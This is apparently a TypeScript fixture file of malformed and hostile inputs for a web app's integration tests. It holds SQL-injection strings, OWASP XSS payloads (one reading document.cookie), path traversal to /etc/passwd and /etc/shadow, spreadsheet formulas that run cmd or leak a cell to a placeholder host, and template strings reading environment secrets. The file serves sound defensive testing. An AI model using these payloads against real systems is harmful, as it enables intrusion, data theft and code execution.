// Malformed and hostile values for the hostile-input suite (tests/integration/hostile/*). Each list
// says where it comes from; a value's `id` names the case in the test output.

export interface Payload {
	id: string;
	value: string;
}

const p = (id: string, value: string): Payload => ({ id, value });

/** Too long for any field the app has (the longest text field is a 50,000-character story). */
export const OVERSIZED: Payload[] = [
	p('10k letters', 'a'.repeat(10_000)),
	p('1 MB of letters', 'x'.repeat(1_000_000)),
	p('60k emoji', '🐢'.repeat(60_000)),
	p('10k lines', 'line\n'.repeat(10_000))
];

/** Values of the wrong shape for number, date, enum and id fields. */
export const WRONG_TYPES: Payload[] = [
	p('empty', ''),
	p('blank', '   \t  '),
	p('NaN', 'NaN'),
	p('Infinity', 'Infinity'),
	p('minus zero', '-0'),
	p('negative', '-1'),
	p('huge exponent', '1e309'),
	p('beyond 2^53', '9007199254740993'),
	p('hex', '0x1F'),
	p('fraction', '2.5'),
	p('JSON object', '{"$gt":""}'),
	p('JSON array', '[1,2,3]'),
	p('null word', 'null'),
	p('undefined word', 'undefined'),
	p('object string', '[object Object]'),
	p('true', 'true'),
	p('date out of range', '2026-02-30'),
	p('year 275760', '+275760-09-13'),
	p('prototype key', '__proto__')
];

/**
 * Unicode edge cases: the bidi override and zero-width characters of Unicode TR36 (Unicode
 * Security Considerations), NUL and other C0 controls, a lone surrogate, combining marks, emoji.
 */
export const UNICODE: Payload[] = [
	p('RTL override', 'Shell\u202Egpj.exe'),
	p('bidi isolate', '\u2067abc\u2069\u2066def'),
	p('zero-width only', '\u200B\u200C\u200D\u2060'),
	p('zero-width inside', 'Sh\u200Bel\u200Dly'),
	p('BOM', '\uFEFFShelly'),
	p('NUL inside', 'Shel\u0000ly'),
	p('NUL only', '\u0000'),
	p('C0 controls', 'a\u0001\u0007\u001b[31mred\u001b[0m'),
	p('lone surrogate', 'a\uD800b'),
	p('combining marks', 'Z\u0335\u0321\u0322\u031B\u0317\u0318a\u0300\u0301\u0302\u0303l\u0327go'),
	p('emoji ZWJ family', '👩‍👩‍👧‍👦 🐢🌊🏳️‍🌈'),
	p('decomposed accents', 'Lo\u0301pez Nun\u0303ez'),
	p('CRLF header injection', 'Shelly\r\nBcc: someone@example.test'),
	p('line and paragraph separators', 'a\u2028b\u2029c'),
	p('fullwidth letters', 'Ｓｈｅｌｌｙ＜ｓｃｒｉｐｔ＞')
];

/** Text that looks like SQL; every query is parameterised, so these must be stored as text. */
export const SQL_LIKE: Payload[] = [
	p('tautology', "' OR '1'='1"),
	p('drop table', "Robert'); DROP TABLE users;--"),
	p('union select', '1 UNION SELECT email, password_hash FROM users--'),
	p('sleep', "1'; SELECT pg_sleep(5);--"),
	p('LIKE wildcards', '%_%\\'),
	p('dollar quoting', '$$; DELETE FROM gifts; $$')
];

/**
 * A named subset of the OWASP "XSS Filter Evasion Cheat Sheet"
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), plus the
 * markdown link form that only a markdown renderer sees.
 */
export const XSS: Payload[] = [
	// the sheet's script host is replaced by a reserved name (RFC 2606)
	p('OWASP basic script', '<SCRIPT SRC=https://example.invalid/xss.js></SCRIPT>'),
	p(
		'OWASP polyglot',
		"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>"
	),
	p('OWASP img javascript', '<IMG SRC="javascript:alert(\'XSS\');">'),
	p('OWASP malformed img', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>'),
	p('OWASP onerror', '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'),
	p('OWASP embedded tab', '<IMG SRC="jav\tascript:alert(\'XSS\');">'),
	p(
		'OWASP entity-encoded',
		'<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>'
	),
	p('OWASP body onload', "<BODY ONLOAD=alert('XSS')>"),
	p('OWASP svg onload', "<svg/onload=alert('XSS')>"),
	p('OWASP iframe', '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>'),
	p('OWASP end title', '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'),
	p('OWASP attribute breakout', '"><script>alert(document.cookie)</script>'),
	p(
		'markdown javascript link',
		'[click me](javascript:alert(1)) ![x](https://example.invalid/x.png)'
	)
];

/** Path traversal in names (OWASP "Path Traversal"), for file names and ids. */
export const PATH_TRAVERSAL: Payload[] = [
	p('dot-dot slash', '../../etc/passwd'),
	p('dot-dot backslash', '..\\..\\windows\\win.ini'),
	p('URL-encoded', '%2e%2e%2f%2e%2e%2fetc%2fpasswd'),
	p('NUL extension trick', 'photo.jpg\u0000.php'),
	p('absolute path', '/etc/shadow')
];

/**
 * Cells a spreadsheet would run as a formula: OWASP "CSV Injection"
 * (https://owasp.org/www-community/attacks/CSV_Injection) lists = + - @ tab and carriage return.
 */
export const CSV_INJECTION: Payload[] = [
	p('equals DDE', "=cmd|' /C calc'!A0"),
	p('plus', "+SUM(1+1)*cmd|' /C calc'!A0"),
	p('minus', "-2+3+cmd|' /C calc'!A0"),
	p('at', "@SUM(1+1)*cmd|' /C calc'!A0"),
	p('tab equals', '\t=1+1'),
	p('CR equals', '\r=1+1'),
	p('hyperlink', '=HYPERLINK("https://example.invalid/?leak="&A1,"Click")')
];

/** Template and format-string syntax (our mail templates use {{ name }}). */
export const TEMPLATE: Payload[] = [
	p('mustache', '{{ link }} {{{ link }}} {{#each x}}'),
	p('JS template', '${process.env.SECRET}'),
	p('printf', '%s%s%s%n%x')
];

/** Every text payload: what each free-text field of every form gets. */
export const TEXT_PAYLOADS: Payload[] = [
	...OVERSIZED,
	...UNICODE,
	...SQL_LIKE,
	...XSS,
	...PATH_TRAVERSAL,
	...CSV_INJECTION,
	...TEMPLATE
];

/** A shorter mix for fields that are not free text (numbers, dates, choices, ids). */
export const FIELD_PAYLOADS: Payload[] = [
	WRONG_TYPES[0],
	WRONG_TYPES[2],
	WRONG_TYPES[4],
	WRONG_TYPES[6],
	WRONG_TYPES[7],
	WRONG_TYPES[10],
	WRONG_TYPES[16],
	OVERSIZED[1],
	UNICODE[0],
	UNICODE[5],
	SQL_LIKE[0],
	XSS[0]
];

/** A shorter mix for the less exposed free-text fields. */
export const SOME_TEXT: Payload[] = [
	OVERSIZED[1],
	UNICODE[0],
	UNICODE[2],
	UNICODE[5],
	UNICODE[8],
	UNICODE[12],
	SQL_LIKE[1],
	XSS[0],
	XSS[4],
	CSV_INJECTION[0],
	TEMPLATE[0]
];

/** E-mail addresses that must be refused or kept exactly (RFC 5321 limits: 64 local, 254 total). */
export const EMAILS: Payload[] = [
	p('header injection', 'someone@example.test\r\nBcc: other@example.test'),
	p('NUL', 'someone@example.test\u0000'),
	p('local part too long', `${'a'.repeat(65)}@example.test`),
	p('address too long', `someone@${'a'.repeat(250)}.test`),
	p('script in local part', '"<script>alert(1)</script>"@example.test'),
	p('two at signs', 'a@b@example.test'),
	p('IP literal', 'someone@[127.0.0.1]'),
	p('unicode domain', 'someone@exämple.test'),
	p('RTL override', 'someone\u202E@example.test'),
	p('zero-width', 'some\u200Bone@example.test'),
	p('SQL', "x' OR 1=1--@example.test"),
	p('formula', '=1+1@example.test')
];

/** Path segments for route parameters (slugs, ids, tokens). */
export const PARAMS: Payload[] = [
	p('empty', ''),
	p('1 MB', 'a'.repeat(1_000_000)),
	p('NUL', 'abc\u0000def'),
	p('NUL only', '\u0000'),
	p('RTL override', 'shelly\u202Egpj'),
	p('emoji', '🐢'),
	p('dot-dot', '../../etc/passwd'),
	p('SQL', "' OR '1'='1"),
	p('XSS', '<script>alert(1)</script>'),
	p('percent-encoded', '%00%2e%2e'),
	p('lone surrogate', '\uD800'),
	p('C0 controls', 'a\u0001\u001b[0m')
];
